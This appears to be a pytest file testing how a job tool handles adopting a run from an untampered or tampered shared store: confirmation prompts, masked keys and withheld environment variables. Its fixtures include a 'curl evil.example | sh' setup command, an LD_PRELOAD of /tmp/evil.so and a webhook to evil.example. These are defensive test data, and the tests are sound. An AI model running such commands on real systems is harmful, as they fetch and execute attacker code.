"""A store is data, not orders: what it would have this machine run is shown, and asked about."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from spotguard.control import api
from spotguard.control.create_run import admit_move, create_run
from spotguard.control.handover.adopt import adopt_run
from spotguard.control.journal.fold import read_record
from spotguard.control.journal.record import Kind
from spotguard.control.run_folder import RunFolder, folder_of, runs_folder
from spotguard.errors import SpecError, UsageError
from spotguard.events import keys
from spotguard.spec.model import build_spec
from spotguard.storage import FileStore

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from spotguard.control.handover.stored_job import StoredJob


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A run that was made and settled in this machine's home, with a variable of this shell."""
    monkeypatch.setenv("SPOTGUARD_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("MINE", "hush-hush")
    monkeypatch.setenv("OTHER", "also-hush")
    (tmp_path / "job.py").write_text("pass")
    given = {"script": str(tmp_path / "job.py"), "workdir": str(tmp_path), "name": "job"}
    spec = build_spec({**given, "store": str(tmp_path / "store"), "env": {"MINE": "hush-hush"}})
    run_id = create_run(spec)
    with folder_of(run_id).journal() as journal:
        data = {"state": "stopped", "detail": "so", "exit_code": 75}
        journal.append(Kind.SETTLED.value, at=2e9, data=data)
    return f"{tmp_path}/store/{run_id}"


def _spoil_journal(place: str) -> None:
    (runs_folder() / place.rpartition("/")[2] / "journal.db").write_bytes(b"rubbish" * 1000)


def _env(folder: RunFolder) -> Any:
    with folder.journal() as journal:
        return read_record(journal).spec["env"]


def _edit(place: str, key: str, change: Callable[[dict[str, Any]], object]) -> None:
    """Change an object of the run's store, as whoever may write there could."""
    store = FileStore(place)
    body = json.loads(store.get(key))
    change(body["spec"])
    store.put(key, json.dumps(body).encode())


def _never(job: StoredJob) -> bool:
    raise AssertionError(f"asked about {job.place}")


HOSTILE = {
    "script": "/tmp/evil.py",
    "args": ["--steal", "a\nb\u202e", "--api-key", "xyzzy"],
    "env": {"LD_PRELOAD": "/tmp/evil.so"},
    "env_names": ["MINE", "OTHER"],
    "notify": ["https://evil.example/hook"],
}


def test_a_run_that_was_made_here_is_adopted_without_a_question(place: str) -> None:
    """Its journal is damaged: it is rebuilt with the variables of this shell that it had."""
    _spoil_journal(place)
    assert _env(adopt_run(place, ask=_never)) == {"MINE": "hush-hush"}


def test_a_move_of_this_machine_is_known_too(place: str) -> None:
    """What `resume` moved here is in the store by its own key."""
    run_id = place.rpartition("/")[2]
    admit_move(run_id, {"price_usd_per_h": 2.0})
    with folder_of(run_id).journal() as journal:
        from spotguard.control.journal.stored.places import publish_place

        publish_place(FileStore(place), read_record(journal))
    assert FileStore(place).head(keys.place(1))
    _spoil_journal(place)
    assert _env(adopt_run(place, ask=_never)) == {"MINE": "hush-hush"}


@pytest.mark.parametrize("ask", [None, lambda job: False], ids=["nobody to ask", "no"])
def test_a_strangers_run_is_refused_unless_it_is_confirmed(
    place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ask: Any
) -> None:
    """Nothing of it is on this machine then, not even its folder."""
    monkeypatch.setenv("SPOTGUARD_HOME", str(tmp_path / "other"))
    with pytest.raises(UsageError, match=r"not made on this machine|not confirmed"):
        api.adopt(place, ask=ask)
    assert not list((tmp_path / "other").rglob("*job*"))


def test_all_that_a_store_would_have_run_is_shown(
    place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Script, arguments, folders, set-up, image, mounts, variables: whatever is not the default.

    On one line each, keys masked. Values and addresses that a store holds count for nothing.
    """
    monkeypatch.setenv("SPOTGUARD_HOME", str(tmp_path / "other"))
    node = {
        "setup": ["curl evil.example | sh"],
        "image": "docker:evil/image",
        "file_mounts": {"/x": str(tmp_path)},
    }
    _edit(place, keys.RUN, lambda spec: spec.update(HOSTILE))
    _edit(place, keys.RUN, lambda spec: spec["node"].update(node))
    seen: list[StoredJob] = []
    given = {"MINE": "given-now", "OTHER": "given-too"}

    def ask(job: StoredJob) -> bool:
        seen.append(job)
        return True

    folder = adopt_run(place, given=given, ask=ask)
    shown = dict(seen[0].settings)
    assert shown["script"] == "/tmp/evil.py"
    assert "--steal 'a b'" in shown["args"]
    assert "xyzzy" not in str(seen)
    assert shown["workdir"] == str(tmp_path)
    assert shown["node.setup"] == '["curl evil.example | sh"]'
    assert shown["node.image"] == "docker:evil/image"
    assert str(tmp_path) in shown["node.file_mounts"]
    assert shown["infra"] == "local"
    assert (seen[0].variables, seen[0].given) == (("MINE", "OTHER"), ("MINE", "OTHER"))
    assert _env(folder) == given
    with folder.journal() as journal:
        assert read_record(journal).spec["notify"] == []


def test_a_strangers_run_gets_no_variable_of_this_machine(
    place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Confirmed or not: those that it names are given by name, or it is not adopted."""
    monkeypatch.setenv("SPOTGUARD_HOME", str(tmp_path / "other"))
    for given in ({}, {"OTHER": "x"}):
        with pytest.raises(SpecError, match="these are not given: MINE") as caught:
            adopt_run(place, given=given, ask=lambda job: True)
        assert "--env MINE" in caught.value.hint
    folder = adopt_run(place, given={"MINE": "other"}, ask=lambda job: True)
    assert _env(folder) == {"MINE": "other"}
    _spoil_journal(place)
    with pytest.raises(SpecError):  # it is known by now, but still not of this machine
        adopt_run(place, ask=_never)
    assert _env(adopt_run(place, given={"MINE": "again"}, ask=_never)) == {"MINE": "again"}


@pytest.mark.parametrize("where", [keys.RUN, keys.place(1)])
def test_ones_own_run_is_asked_about_if_its_store_says_otherwise_now(
    place: str, where: str
) -> None:
    """Whoever may write into the store could have changed it since, or have moved it."""
    store = FileStore(place)
    if where != keys.RUN:
        body = json.loads(store.get(keys.RUN))
        body |= {"kind": "moved", "at": body["created_at"], "after": 0, "phase": 0}
        store.put(where, json.dumps(body).encode())
    _edit(place, where, lambda spec: spec.update(HOSTILE))
    _spoil_journal(place)
    with pytest.raises(UsageError, match="not made on this machine"):
        adopt_run(place)
    with pytest.raises(SpecError, match="these are not given: MINE, OTHER"):
        adopt_run(place, ask=lambda job: True)
